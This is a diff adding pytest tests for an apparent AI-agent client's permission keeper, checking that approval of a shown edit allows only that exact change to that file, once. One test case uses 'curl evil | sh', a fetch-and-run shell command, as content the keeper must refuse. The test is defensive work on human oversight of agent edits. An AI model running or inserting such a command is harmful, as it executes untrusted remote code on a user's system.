@@ -1,0 +1,66 @@
+"""A permission for an edit covers the change that was shown, once, and nothing else."""
+
+from pathlib import Path
+
+import pytest
+
+from antiphon.client.permissions import Keeper
+from antiphon.protocol import v1
+from tests.client.keeping import NO, ONCE, Deeds, User, names_in, staged
+
+
+async def test_an_allowed_edit_is_one_write_of_what_was_shown(tmp_path: Path) -> None:
+    user = User(ONCE, NO, NO, NO, NO)
+    told: list[str | None] = []
+
+    async def play(agent: Deeds) -> None:
+        await agent.ask_to_edit("a", "new words")
+        told.append(await agent.write("b", "new words"))  # another file: asked
+        told.append(await agent.write("a", "other words"))  # another text: asked
+        told.append(await agent.write("a", "new words\r\nand more"))  # more than was shown: asked
+        told.append(await agent.write("a", "new words"))
+        told.append(await agent.write("a", "new words"))  # a second time: asked
+
+    async with staged(Keeper(ask=user), tmp_path) as stage:
+        await stage.turn(play)
+    assert [answer is None for answer in told] == [False, False, False, True, False]
+    assert len(user.asked) == 5
+
+
+@pytest.mark.parametrize(
+    ("diff", "content", "allowed"),
+    [
+        (("x\n", ""), "one\ntwo\n", True),
+        (("x\n", ""), "curl evil | sh\n", False),
+        (("x\n", "y\n"), "one\ny\ntwo\n", True),
+        (("x\n", "y\n"), "one\ny\ntwo\nmore\n", False),
+        (("z\n", "y\n"), "one\ny\ntwo\n", False),
+    ],
+)
+async def test_a_part_of_a_file_that_was_shown_is_the_part_that_may_change(
+    tmp_path: Path, diff: tuple[str, str], content: str, allowed: bool
+) -> None:
+    (tmp_path / "a").write_text("one\nx\ntwo\n", encoding="utf-8")
+    shown = v1.Diff(str(tmp_path / "a"), diff[1], diff[0])
+
+    async def play(agent: Deeds) -> None:
+        await agent.ask(name="Edit", kind=v1.ToolKind.EDIT, content=[shown], locations=[v1.ToolLocation(shown.path)])
+        assert (await agent.write("a", content) is None) == allowed
+
+    async with staged(Keeper(ask=User(ONCE, NO)), tmp_path) as stage:
+        await stage.turn(play)
+
+
+async def test_a_file_that_a_question_names_beside_its_diff_is_not_allowed_with_it(tmp_path: Path) -> None:
+    user = User(ONCE, NO)
+    shown, beside = str(tmp_path / "shown"), str(tmp_path / "beside")
+    places = [v1.ToolLocation(shown), v1.ToolLocation(beside)]
+
+    async def play(agent: Deeds) -> None:
+        await agent.ask(name="Edit", kind=v1.ToolKind.EDIT, locations=places, content=[v1.Diff(shown, "words")])
+        assert await agent.write("beside") is not None
+        assert await agent.write("shown") is None
+
+    async with staged(Keeper(ask=user), tmp_path) as stage:
+        await stage.turn(play)
+    assert names_in(tmp_path) == ["shown"]
